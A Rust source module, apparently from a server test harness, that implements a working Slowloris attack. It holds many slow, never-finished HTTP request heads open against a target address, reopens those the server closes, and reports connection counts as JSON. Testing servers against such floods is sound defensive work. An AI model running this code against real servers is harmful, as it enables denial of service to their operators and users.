//! Slowloris: many connections that send a request head a few bytes at a time and never
//! finish it. A connection the server closes (its head timeout) is opened again, so the
//! pressure stays at `connections` for the whole run.

use std::cell::Cell;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::rc::Rc;
use std::time::Duration;

use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;
use tokio::time::{Instant, timeout};

/// Bound on a connect and on each write.
const STEP: Duration = Duration::from_secs(5);

#[derive(Default)]
struct Counts {
    open: Cell<u64>,
    opened: Cell<u64>,
    connect_failed: Cell<u64>,
    /// Closed by the server (after its head timeout, or refused).
    closed_by_server: Cell<u64>,
}

/// Keeps `connections` slow heads open against `addr` (sources 127.0.0.x from `first`),
/// opened at `ramp` per second, one more header line every `interval`; prints `ready N`
/// once the first `connections` are open; runs for `duration`.
pub async fn slowloris(
    addr: SocketAddr,
    connections: usize,
    first: usize,
    ramp: f64,
    interval: Duration,
    duration: Duration,
) -> anyhow::Result<serde_json::Value> {
    let counts = Rc::new(Counts::default());
    let started = Instant::now();
    let end = started + duration;
    let mut tasks = Vec::with_capacity(connections);
    for i in 0..connections {
        let counts = counts.clone();
        // Paced opening: a burst of thousands of SYNs would overflow the accept queue.
        let start = started + Duration::from_secs_f64(i as f64 / ramp.max(1.0));
        tasks.push(tokio::task::spawn_local(async move {
            tokio::time::sleep_until(start).await;
            let src = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2 + ((first + i) % 250) as u8));
            while Instant::now() < end {
                if slow_one(addr, src, interval, end, &counts).await.is_err() {
                    counts.connect_failed.set(counts.connect_failed.get() + 1);
                    tokio::time::sleep(Duration::from_millis(200)).await;
                }
            }
        }));
    }
    let ready_by = Instant::now()
        + Duration::from_secs_f64(connections as f64 / ramp.max(1.0))
        + Duration::from_secs(30);
    while (counts.open.get() as usize) < connections && Instant::now() < ready_by {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let ready = counts.open.get();
    println!("ready {ready}");
    for t in tasks {
        let _ = timeout(duration + 2 * STEP, t).await;
    }
    Ok(json!({
        "mode": "slowloris", "connections": connections, "ready": ready,
        "opened": counts.opened.get(), "connect_failed": counts.connect_failed.get(),
        "closed_by_server": counts.closed_by_server.get(),
    }))
}

/// One slow connection, until the server closes it or the run ends.
async fn slow_one(
    addr: SocketAddr,
    src: IpAddr,
    interval: Duration,
    end: Instant,
    counts: &Counts,
) -> anyhow::Result<()> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(src, 0))?;
    let mut stream = timeout(STEP, socket.connect(addr)).await??;
    counts.opened.set(counts.opened.get() + 1);
    counts.open.set(counts.open.get() + 1);
    let head = format!("GET /slow HTTP/1.1\r\nHost: {addr}\r\n");
    let r = async {
        timeout(STEP, stream.write_all(head.as_bytes())).await??;
        let mut line = 0u32;
        let mut sink = [0u8; 512];
        loop {
            let tick =
                tokio::time::sleep(interval.min(end.saturating_duration_since(Instant::now())));
            tokio::select! {
                _ = tick => {
                    if Instant::now() >= end {
                        return anyhow::Ok(());
                    }
                    let h = format!("X-Slow-{line}: a\r\n");
                    line += 1;
                    timeout(STEP, stream.write_all(h.as_bytes())).await??;
                }
                _ = stream.read(&mut sink) => {
                    // A 408, a reset or EOF: the server gave up on this head.
                    counts.closed_by_server.set(counts.closed_by_server.get() + 1);
                    return anyhow::Ok(());
                }
            }
        }
    }
    .await;
    counts.open.set(counts.open.get() - 1);
    if r.is_err() {
        counts
            .closed_by_server
            .set(counts.closed_by_server.get() + 1);
    }
    Ok(())
}
